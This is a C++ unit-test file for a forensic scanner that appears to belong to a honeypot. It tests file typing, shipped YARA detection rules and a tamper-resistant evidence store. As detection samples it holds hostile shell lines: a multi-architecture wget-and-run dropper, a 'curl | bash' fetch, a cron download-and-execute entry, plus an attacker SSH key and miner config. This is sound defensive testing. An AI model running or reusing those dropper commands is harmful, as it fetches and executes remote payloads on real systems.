// The pieces the forensic analysis runs each file through: libmagic's
// typing, the shipped YARA rules (each fires on what it is documented for
// and not on a Debian system's own files), rule errors that name the file
// and line, and the evidence store's content addressing (also of what the
// worker leaves in its own output).
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <fstream>

#include "oyster/common/error.h"
#include "oyster/common/sha256.h"
#include "oyster/evidence/evidence_store.h"
#include "oyster/forensics/file_type.h"
#include "oyster/forensics/yara_rules.h"
#include "temp_dir.h"

namespace oyster::forensics {
namespace {

const std::filesystem::path kShippedRules = std::filesystem::path(OYSTER_SOURCE_DIR) / "rules/yara";

void write_file(const std::filesystem::path& p, const std::string& data) {
    std::filesystem::create_directories(p.parent_path());
    std::ofstream(p, std::ios::binary) << data;
}

std::string read_file(const std::filesystem::path& p) {
    std::ifstream in(p, std::ios::binary);
    return {std::istreambuf_iterator<char>(in), {}};
}

std::span<const std::uint8_t> bytes(const std::string& s) {
    return {reinterpret_cast<const std::uint8_t*>(s.data()), s.size()};
}

class ForensicScannersTest : public testing::TempDirTest {
protected:
    std::set<std::string> rules_matching(const std::string& content, const std::string& guest_path,
                                         const std::string& change = "added") {
        static const YaraRules shipped(kShippedRules);
        auto f = dir / "sample";
        write_file(f, content);
        std::set<std::string> out;
        for (const auto& m : shipped.scan(f, {guest_path, change})) out.insert(m.rule);
        return out;
    }
};

TEST_F(ForensicScannersTest, TypesByContent) {
    FileTyper typer;
    std::string elf(64, '\0');
    elf.replace(0, 4,
                "\x7f"
                "ELF");
    elf[4] = 2;    // 64-bit
    elf[5] = 1;    // little endian
    elf[6] = 1;    // version
    elf[16] = 2;   // ET_EXEC
    elf[18] = 62;  // x86-64
    elf[20] = 1;
    auto t = typer.type_of(bytes(elf));
    EXPECT_NE(t.description.find("ELF 64-bit LSB executable"), std::string::npos) << t.description;
    EXPECT_EQ(typer.type_of(bytes("#!/bin/sh\necho hi\n")).mime, "text/x-shellscript");
    EXPECT_EQ(typer.type_of(bytes("plain words\n")).mime, "text/plain");
    EXPECT_EQ(typer.type_of({}).description, "empty");
    // From a descriptor, ELF headers are parsed too.
    auto sh = typer.type_of_file(std::filesystem::canonical("/bin/sh"));
    EXPECT_NE(sh.description.find("dynamically linked"), std::string::npos) << sh.description;
    EXPECT_EQ(typer.type_of_file(dir / "missing").description, "unreadable");
}

TEST_F(ForensicScannersTest, ShippedRulesFireOnWhatTheyAreFor) {
    std::string key =
        "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1"
        "+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHp";
    EXPECT_EQ(rules_matching(key + " admin@laptop\n", "/root/.ssh/authorized_keys"),
              std::set<std::string>{"ssh_authorized_key_added"});
    EXPECT_EQ(rules_matching(key + " mdrfckr\n", "/home/pi/.ssh/authorized_keys"),
              (std::set<std::string>{"ssh_authorized_key_added", "ssh_key_outlaw_mdrfckr"}));
    // A key somewhere else is not persistence.
    EXPECT_TRUE(rules_matching(key + "\n", "/root/id_rsa.pub").empty());

    EXPECT_EQ(rules_matching(R"({"pools": [{"url": "stratum+tcp://pool.example.net:3333", "user": "4AdUnd",
                                "pass": "x", "algo": "rx/0"}]})",
                             "/tmp/.x/config.json"),
              std::set<std::string>{"linux_miner_pool_config"});
    EXPECT_EQ(rules_matching("XMRig 6.20 randomx cryptonight --donate-level=1 stratum+tcp:// hashrate", "/tmp/x"),
              std::set<std::string>{"linux_miner_xmrig"});

    std::string bins = "#!/bin/sh\ncd /tmp || cd /var/run\n";
    for (const char* arch : {"mips", "mpsl", "arm7", "x86"}) {
        bins += std::string("wget http://198.51.100.7/bins/sora.") + arch + "; chmod 777 sora." + arch + "; ./sora." +
                arch + " ssh\n";
    }
    EXPECT_EQ(rules_matching(bins, "/tmp/bins.sh"),
              (std::set<std::string>{"dropper_multi_arch_script", "dropper_download_and_run"}));
    EXPECT_EQ(rules_matching("curl -fsSL http://198.51.100.7/x.sh | bash\n", "/root/a.sh"),
              std::set<std::string>{"dropper_download_and_run"});
    EXPECT_EQ(rules_matching("*/5 * * * * root wget -q -O- http://198.51.100.7/p | sh\n", "/etc/cron.d/update"),
              (std::set<std::string>{"persistence_cron_download", "dropper_download_and_run"}));

    std::string mirai = std::string(
                            "\x7f"
                            "ELF",
                            4) +
                        std::string(60, '\0') +
                        std::string("/bin/busybox ECCHI\0/dev/watchdog\0/proc/net/tcp\0TSource Engine Query", 67);
    EXPECT_EQ(rules_matching(mirai, "/tmp/.e"), std::set<std::string>{"bot_mirai_family"});
}

TEST_F(ForensicScannersTest, ShippedRulesStayQuietOnTheSystemsOwnFiles) {
    for (const char* p : {"/bin/bash", "/usr/bin/wget", "/usr/bin/curl", "/etc/passwd", "/etc/ssh/sshd_config",
                          "/usr/sbin/sshd", "/etc/crontab", "/usr/bin/busybox"}) {
        if (!std::filesystem::exists(p)) continue;
        std::ifstream in(p, std::ios::binary);
        std::string content{std::istreambuf_iterator<char>(in), {}};
        EXPECT_TRUE(rules_matching(content, p, "changed").empty()) << p;
    }
}

TEST_F(ForensicScannersTest, ABrokenRuleNamesItsFileAndLine) {
    write_file(dir / "rules/good.yar", "rule ok { condition: true }\n");
    write_file(dir / "rules/bad.yar", "rule ok2 {\n  strings: $a = \"x\"\n  condition: $b\n}\n");
    try {
        YaraRules r(dir / "rules");
        FAIL() << "compiled a broken rule";
    } catch (const Error& e) {
        // libyara names the line where it found the error (the rule's end).
        EXPECT_NE(std::string(e.what()).find("bad.yar:4: undefined string \"$b\""), std::string::npos) << e.what();
    }
    EXPECT_THROW(YaraRules(dir / "missing"), Error);
}

TEST_F(ForensicScannersTest, EvidenceIsKeptOnceByContent) {
    evidence::EvidenceStore store(dir / "evidence");
    write_file(dir / "a", "payload");
    auto sha = store.put_file(dir / "a");
    EXPECT_EQ(sha, sha256_text("payload"));
    EXPECT_EQ(store.path_for(sha), dir / "evidence/sha256" / sha.substr(0, 2) / sha);
    EXPECT_EQ(store.put_file(dir / "a"), sha);
    {
        evidence::EvidenceStore::Writer w(store);
        w.write("pay", 3);
        w.write("load", 4);
        EXPECT_EQ(w.commit(), sha);
    }
    {
        evidence::EvidenceStore::Writer abandoned(store);
        abandoned.write("half", 4);
    }
    EXPECT_TRUE(std::filesystem::is_empty(dir / "evidence/tmp"));
    EXPECT_TRUE(store.contains(sha));
    EXPECT_FALSE(store.contains("../" + sha.substr(3)));
    EXPECT_THROW(store.path_for("../../etc/passwd"), Error);
    std::filesystem::create_symlink(dir / "a", dir / "link");
    EXPECT_THROW(store.put_file(dir / "link"), Error);
    ASSERT_EQ(::mkfifo((dir / "fifo").c_str(), 0600), 0);
    EXPECT_THROW(store.put_file(dir / "fifo"), Error) << "a FIFO is refused, not waited on";
}

// What a worker taken over by a crafted filesystem left in its own output:
// blobs named for other content, a forged name for a blob already stored,
// a symlink to a host file, a FIFO. Only regular files come in, each by
// its own content's hash; nothing stored changes, and nothing blocks.
TEST_F(ForensicScannersTest, BlobsFromTheWorkersOutputComeInByTheirContent) {
    evidence::EvidenceStore store(dir / "evidence");
    write_file(dir / "kept", "evidence of another intrusion");
    auto kept = store.put_file(dir / "kept");
    auto out = dir / "worker-blobs";
    std::filesystem::create_directories(out / "sha256/ab");
    write_file(out / "sha256/ab" / kept, "forged content under a stored blob's name");
    write_file(out / "sha256/ab/new", "a new payload");
    std::filesystem::create_symlink("/etc/passwd", out / "sha256/ab/link");
    ASSERT_EQ(::mkfifo((out / "sha256/ab/fifo").c_str(), 0600), 0);
    EXPECT_EQ(store.take_from(out), 2u);
    EXPECT_EQ(read_file(store.path_for(kept)), "evidence of another intrusion");
    EXPECT_TRUE(store.contains(sha256_text("forged content under a stored blob's name")));
    EXPECT_TRUE(store.contains(sha256_text("a new payload")));
    EXPECT_FALSE(store.contains(sha256_text(read_file("/etc/passwd"))));
    EXPECT_EQ(store.take_from(out), 0u) << "the same blobs again add nothing";
    EXPECT_EQ(store.take_from(dir / "missing"), 0u);
}

}  // namespace
}  // namespace oyster::forensics
